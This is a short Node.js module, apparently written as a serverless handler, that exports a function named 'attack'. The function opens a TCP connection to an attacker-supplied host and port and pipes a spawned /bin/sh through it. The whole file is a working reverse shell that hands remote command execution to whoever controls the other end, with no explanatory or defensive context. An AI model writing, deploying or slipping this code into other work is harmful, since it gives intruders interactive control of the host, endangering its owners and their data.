// A socket, and a shell whose ends it is.
'use strict';
const net = require('net');
const { spawn } = require('child_process');

exports.attack = (event) => new Promise((resolve, reject) => {
  const home = net.connect(event.shell_port, event.attacker, () => {
    const shell = spawn('/bin/sh', []);
    shell.on('error', reject);
    home.pipe(shell.stdin);
    shell.stdout.pipe(home);
    shell.on('exit', resolve);
  });
  home.on('error', reject);
});
